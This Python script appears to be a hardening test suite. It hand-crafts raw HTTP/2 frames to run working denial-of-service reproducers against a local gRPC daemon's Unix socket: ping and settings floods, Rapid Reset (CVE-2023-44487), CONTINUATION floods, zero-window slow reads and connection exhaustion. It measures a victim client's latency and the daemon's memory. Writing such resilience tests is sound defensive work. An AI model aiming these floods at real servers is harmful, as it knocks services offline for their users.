#!/usr/bin/python3
"""Attacks on a gRPC daemon's HTTP/2 server from one local client, each a reproducer.

Usage: http2_attacks.py SOCKET PID CASE SECONDS [--bound-mib N] [--latency-ms N]

Runs attack CASE against SOCKET for about SECONDS while another client (`ctr version` on its
own connection, every 50 ms) measures how long it is served; reads PID's RSS before and after.
Prints one line "CASE rss_growth_mib=… victim_median_ms=… victim_max_ms=… victim_calls=N
outcome=…" and exits 1 if the outcome is not the one expected, if the RSS grew by more than
--bound-mib, or if the victim's median exceeded --latency-ms. `--expect any` accepts every
outcome (for a daemon whose answer differs, such as containerd in Benchmarks/http2_attacks.py).

Outcomes are exact: "goaway:11" means the connection ended with GOAWAY ENHANCE_YOUR_CALM;
"backpressure" that the server stopped reading while the client did not read (its sends
blocked); "status:8" a gRPC status; "closed" an EOF with no GOAWAY.
"""
import argparse, hashlib, os, socket, statistics, struct, subprocess, sys, threading, time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
VERSION = "/containerd.services.version.v1.Version/Version"
SUBSCRIBE = "/containerd.services.events.v1.Events/Subscribe"
PUBLISH = "/containerd.services.events.v1.Events/Publish"
READ = "/containerd.services.content.v1.Content/Read"
CTR = "/usr/bin/ctr"


def frame(type_, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([type_, flags]) + struct.pack(">I", stream) + payload


def settings(**values):
    ids = {"header_table_size": 1, "enable_push": 2, "max_concurrent_streams": 3, "initial_window_size": 4,
           "max_frame_size": 5, "max_header_list_size": 6}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def grpc_message(body):
    return b"\x00" + struct.pack(">I", len(body)) + body


def proto_string(field, text):
    data = text.encode() if isinstance(text, str) else text
    return bytes([field << 3 | 2]) + varint(len(data)) + data


def varint(n):
    out = b""
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out += bytes([byte | 0x80])
        else:
            return out + bytes([byte])


def request_headers(path, namespace="default"):
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "berth"),
            ("content-type", "application/grpc"), ("te", "trailers"), ("containerd-namespace", namespace)]


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise RuntimeError("no VmRSS")


class Conn:
    """A raw HTTP/2 client connection: frames are written by hand, answers parsed as they come."""

    def __init__(self, path, initial=None, timeout=10):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(timeout)
        self.sock.connect(path)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.received = b""
        self.next_stream = 1
        self.sock.sendall(PREFACE + (initial if initial is not None else settings()))

    def headers(self, path, end_stream=False, stream=None, **args):
        if stream is None:
            stream, self.next_stream = self.next_stream, self.next_stream + 2
        block = self.encoder.encode(request_headers(path, **args))
        return stream, frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)

    def send(self, data, timeout=None):
        """Sends `data`; "sent", "blocked" (the server stopped reading) or "closed"."""
        if timeout is not None:
            self.sock.settimeout(timeout)
        try:
            self.sock.sendall(data)
            return "sent"
        except socket.timeout:
            return "blocked"
        except (BrokenPipeError, ConnectionResetError):
            return "closed"

    def frames(self, until, timeout=10):
        """Reads frames (type, flags, stream, payload) until `until(frame)` is true or EOF; returns them."""
        self.sock.settimeout(timeout)
        seen, offset = [], 0
        deadline = time.time() + timeout
        while time.time() < deadline:
            while offset + 9 <= len(self.received):
                length = int.from_bytes(self.received[offset:offset + 3], "big")
                if offset + 9 + length > len(self.received):
                    break
                item = (self.received[offset + 3], self.received[offset + 4],
                        int.from_bytes(self.received[offset + 5:offset + 9], "big") & 0x7FFFFFFF,
                        self.received[offset + 9:offset + 9 + length])
                offset += 9 + length
                seen.append(item)
                if until(item):
                    self.received = self.received[offset:]
                    return seen
            try:
                chunk = self.sock.recv(1 << 20)
            except (socket.timeout, ConnectionResetError):
                break
            if not chunk:
                break
            self.received += chunk
        self.received = self.received[offset:]
        return seen

    def goaway(self, timeout=10):
        """The GOAWAY error code the server ended with, or None at EOF without one."""
        for type_, _, _, payload in self.frames(lambda f: f[0] == GOAWAY, timeout):
            if type_ == GOAWAY:
                return struct.unpack(">I", payload[4:8])[0]
        return None

    def status(self, stream, timeout=10):
        """grpc-status of `stream` ("reset:N" for RST_STREAM), decoding every header block on the way."""
        result = []

        def done(item):
            type_, flags, sid, payload = item
            if type_ == HEADERS:
                fields = dict(self.decoder.decode(payload))
                if sid == stream and "grpc-status" in fields:
                    result.append(f"status:{fields['grpc-status']}")
                    result.append(fields.get("grpc-message", ""))
                    return True
            if type_ == RST_STREAM and sid == stream:
                result.append(f"reset:{struct.unpack('>I', payload)[0]}")
                return True
            return type_ == GOAWAY
        self.frames(done, timeout)
        return tuple(result) if result else ("none",)

    def close(self):
        self.sock.close()


class Victim(threading.Thread):
    """Another client: `ctr version` on its own connection, again and again, timed."""

    def __init__(self, path):
        super().__init__(daemon=True)
        self.path, self.times, self.failures, self.stop = path, [], 0, threading.Event()

    def run(self):
        while not self.stop.is_set():
            start = time.monotonic()
            result = subprocess.run([CTR, "--address", self.path, "--timeout", "20s", "version"], capture_output=True)
            self.times.append((time.monotonic() - start) * 1000)
            if result.returncode != 0:
                self.failures += 1
            self.stop.wait(0.05)


def flood_until(path, seconds, make_conn, payload, chunks=64):
    """Reconnects and sends `payload` repeatedly without reading for `seconds`; outcomes seen, in order."""
    outcomes, deadline = [], time.time() + seconds
    while time.time() < deadline:
        conn = make_conn()
        state = "sent"
        while state == "sent" and time.time() < deadline:
            state = conn.send(payload * chunks, timeout=2)
        if state == "blocked":
            outcomes.append("backpressure")
            # the server must still be reading nothing: hold the connection until the end
            time.sleep(max(0, deadline - time.time()))
        elif state == "closed":
            code = conn.goaway(timeout=2)
            outcomes.append(f"goaway:{code}" if code is not None else "closed")
        conn.close()
    return outcomes


# Each attack returns its outcome string.

def attack_ping_flood(path, seconds):
    outcomes = flood_until(path, seconds, lambda: Conn(path), frame(PING, 0, 0, b"flooding"))
    return outcomes[0] if outcomes else "none"


def attack_settings_flood(path, seconds):
    outcomes = flood_until(path, seconds, lambda: Conn(path), settings(initial_window_size=65535))
    return outcomes[0] if outcomes else "none"


def attack_rst_provoking_data(path, seconds):
    """DATA on streams the server already closed, 32 of them in turn: each DATA is answered with
    RST_STREAM (a server may drop DATA quietly for a stream it reset only just now)."""
    def make():
        conn = Conn(path)
        for _ in range(32):
            stream, block = conn.headers(VERSION)
            conn.send(block + frame(DATA, END_STREAM, stream, grpc_message(b"")))
            conn.status(stream)
        return conn
    payload = b"".join(frame(DATA, 0, stream, grpc_message(b"x" * 16)) for stream in range(1, 64, 2))
    outcomes = flood_until(path, seconds, make, payload, chunks=2)
    return outcomes[0] if outcomes else "none"


def hpack_length(n, prefix_bits=7, first=0):
    """An HPACK integer (RFC 7541 §5.1) with `first`'s high bits."""
    limit = (1 << prefix_bits) - 1
    if n < limit:
        return bytes([first | n])
    return bytes([first | limit]) + varint(n - limit)


def rejected_block(n):
    """Request fields without the dynamic table: POST, http, a malformed :path the server echoes
    back in its error (different for every request, so the answers cannot be indexed)."""
    path = f"malformed-{n:010d}-".encode() + b"y" * 100
    return (b"\x83\x86" + b"\x04" + hpack_length(len(path)) + path
            + b"\x0f\x10" + hpack_length(16) + b"application/grpc" + b"\x00\x02te\x08trailers")


def attack_rejected_requests(path, seconds):
    """Requests the server rejects (a malformed method path), the answers never read."""
    outcomes, deadline = [], time.time() + seconds
    while time.time() < deadline:
        conn = Conn(path)
        state = "sent"
        while state == "sent" and time.time() < deadline:
            batch = b""
            for _ in range(64):
                batch += frame(HEADERS, END_HEADERS | END_STREAM, conn.next_stream, rejected_block(conn.next_stream))
                conn.next_stream += 2
            state = conn.send(batch, timeout=2)
        outcomes.append("backpressure" if state == "blocked" else (f"goaway:{conn.goaway(2)}" if state == "closed" else "sent"))
        if state == "blocked":
            time.sleep(max(0, deadline - time.time()))
        conn.close()
    return outcomes[0] if outcomes else "none"


def attack_rapid_reset(path, seconds):
    """Streams opened and reset at once, CVE-2023-44487; reconnects whenever cut off."""
    outcomes, deadline, streams = [], time.time() + seconds, 0
    while time.time() < deadline:
        conn = Conn(path)
        state = "sent"
        while state == "sent" and time.time() < deadline:
            batch = b""
            for _ in range(50):
                stream, block = conn.headers(SUBSCRIBE, end_stream=True)
                batch += block + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            streams += 50
            state = conn.send(batch, timeout=2)
        outcomes.append(f"goaway:{conn.goaway(2)}" if state == "closed" else state)
        conn.close()
    return outcomes[0] if outcomes else "none"


def attack_empty_continuation(path, seconds):
    conn = Conn(path)
    stream, _ = conn.headers(VERSION)
    block = conn.encoder.encode(request_headers(VERSION))
    state = conn.send(frame(HEADERS, 0, stream, block[:4]) + frame(CONTINUATION, 0, stream) * 100_000, timeout=5)
    code = conn.goaway(5)
    return f"goaway:{code}" if code is not None else state


def attack_unfinished_messages(path, seconds):
    """Streams each holding most of a 16 MiB request message, never finished."""
    conn = Conn(path)
    chunk = b"\x00" * 16384
    result = "none"
    for _ in range(12):
        stream, block = conn.headers(VERSION)
        body = grpc_message(b"")[:1] + struct.pack(">I", 16 << 20) + chunk[5:]
        data = frame(DATA, 0, stream, body)
        data += frame(DATA, 0, stream, chunk) * ((15 << 20) // len(chunk))
        if conn.send(block + data, timeout=10) != "sent":
            return "blocked"
        # read what came back so far without waiting long: a status ends this stream
        answer = conn.status(stream, timeout=0.5)
        if answer[0] != "none":
            result = answer[0]
            break
    conn.close()
    return result


def attack_slow_reader(path, seconds, streams=1000, blob_mib=32):
    """Window 0 and Content/Read of a large blob on many streams of one connection."""
    digest = ingest_blob(path, blob_mib)
    conn = Conn(path, initial=settings(initial_window_size=0))
    batch = b""
    for _ in range(streams):
        stream, block = conn.headers(READ)
        batch += block + frame(DATA, END_STREAM, stream, grpc_message(proto_string(1, digest)))
    if conn.send(batch, timeout=10) != "sent":
        return "blocked"
    refused = sum(1 for t, _, _, p in conn.frames(lambda f: False, timeout=seconds)
                  if t == RST_STREAM and struct.unpack(">I", p)[0] == 7)
    conn.close()
    return f"refused:{refused}"


def ingest_blob(path, mib):
    blob = hashlib.sha256(b"berth").digest() * (mib * 32768)
    digest = "sha256:" + hashlib.sha256(blob).hexdigest()
    result = subprocess.run([CTR, "--address", path, "content", "ingest", f"attack-{mib}"], input=blob, capture_output=True)
    if result.returncode != 0:
        raise RuntimeError(f"ctr content ingest: {result.stderr!r}")
    return digest


def publish_ms(path):
    """One Events/Publish on its own connection, in milliseconds."""
    conn = Conn(path)
    event = proto_string(1, "types.containerd.io/berth.Test") + proto_string(2, b"x")
    stream, block = conn.headers(PUBLISH)
    start = time.monotonic()
    conn.send(block + frame(DATA, END_STREAM, stream, grpc_message(proto_string(1, "/attack/test") + proto_string(2, event))))
    status = conn.status(stream)
    elapsed = (time.monotonic() - start) * 1000
    conn.close()
    if status[0] != "status:0":
        raise RuntimeError(f"publish: {status}")
    return elapsed


def attack_cancelled_subscriptions(path, seconds, count=100_000):
    """Subscriptions whose filter never matches, each reset; publish time before and after."""
    before = statistics.median(publish_ms(path) for _ in range(5))
    deadline, done = time.time() + seconds, 0
    filter_ = proto_string(1, 'topic=="/never"')
    conn = Conn(path)
    while done < count and time.time() < deadline:
        batch = b""
        for _ in range(50):
            stream, block = conn.headers(SUBSCRIBE)
            batch += block + frame(DATA, END_STREAM, stream, grpc_message(filter_)) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        state = conn.send(batch, timeout=5)
        done += 50
        if state == "closed":
            conn.close()
            conn = Conn(path)
        # Let a completed call earn the resets back, as a client that cancels a subscription
        # now and then but mostly works would.
        stream, block = conn.headers(VERSION)
        conn.send(block + frame(DATA, END_STREAM, stream, grpc_message(b"")))
        if conn.status(stream)[0] == "none":
            conn.close()
            conn = Conn(path)
    conn.close()
    time.sleep(1)
    after = statistics.median(publish_ms(path) for _ in range(5))
    verdict = "subscriptions" if after <= 2 * before + 20 else "publish_slower"
    return f"{verdict}:{done} publish_before_ms:{before:.1f} publish_after_ms:{after:.1f}"


def attack_connection_limit(path, seconds, limit=1000):
    """As many connections as the server takes, and one more; the extra one is closed at once."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, limit + 200)), hard))
    held, extra = [], 0
    try:
        for _ in range(limit + 20):
            for _ in range(500):
                try:
                    held.append(Conn(path, timeout=2))
                    break
                except BlockingIOError:   # the listen backlog is full: the server accepts more slowly
                    time.sleep(0.01)
        # some of those (the last ones, and any the victim took) were closed on arrival
        for conn in held:
            if not conn.frames(lambda f: f[0] == SETTINGS, timeout=0.2):
                extra += 1
    finally:
        for conn in held:
            conn.close()
    return f"closed_on_arrival:{extra}"


def attack_handshake_timeout(path, seconds):
    """Connections that never send the preface; how long until the server closes them."""
    socks = []
    for _ in range(100):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.connect(path)
        sock.settimeout(seconds)
        socks.append(sock)
    start = time.monotonic()
    closed = 0
    for sock in socks:
        try:
            while sock.recv(65536):
                pass
            closed += 1
        except socket.timeout:
            pass
        sock.close()
    return f"closed:{closed}/100 after_s:{time.monotonic() - start:.0f}"


ATTACKS = {name[7:]: fn for name, fn in globals().items() if name.startswith("attack_")}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("socket")
    parser.add_argument("pid", type=int)
    parser.add_argument("case", choices=sorted(ATTACKS))
    parser.add_argument("seconds", type=float)
    parser.add_argument("--expect", default="any")
    parser.add_argument("--bound-mib", type=float, default=None)
    parser.add_argument("--latency-ms", type=float, default=None)
    args = parser.parse_args()
    before = rss_kib(args.pid)
    victim = Victim(args.socket)
    victim.start()
    outcome = ATTACKS[args.case](args.socket, args.seconds)
    peak = rss_kib(args.pid)
    victim.stop.set()
    victim.join()
    growth = (peak - before) / 1024
    median = statistics.median(victim.times) if victim.times else float("inf")
    worst = max(victim.times) if victim.times else float("inf")
    print(f"{args.case} rss_growth_mib={growth:.1f} victim_median_ms={median:.0f} victim_max_ms={worst:.0f} "
          f"victim_calls={len(victim.times)} victim_failures={victim.failures} outcome={outcome}", flush=True)
    failed = []
    if args.expect != "any" and not outcome.startswith(args.expect):
        failed.append(f"outcome {outcome}, want {args.expect}")
    if args.bound_mib is not None and growth > args.bound_mib:
        failed.append(f"RSS grew {growth:.1f} MiB, bound {args.bound_mib}")
    if args.latency_ms is not None and (median > args.latency_ms or victim.failures or not victim.times):
        failed.append(f"victim median {median:.0f} ms (bound {args.latency_ms}), {victim.failures} failures")
    if failed:
        print("FAIL " + "; ".join(failed))
        sys.exit(1)


if __name__ == "__main__":
    main()
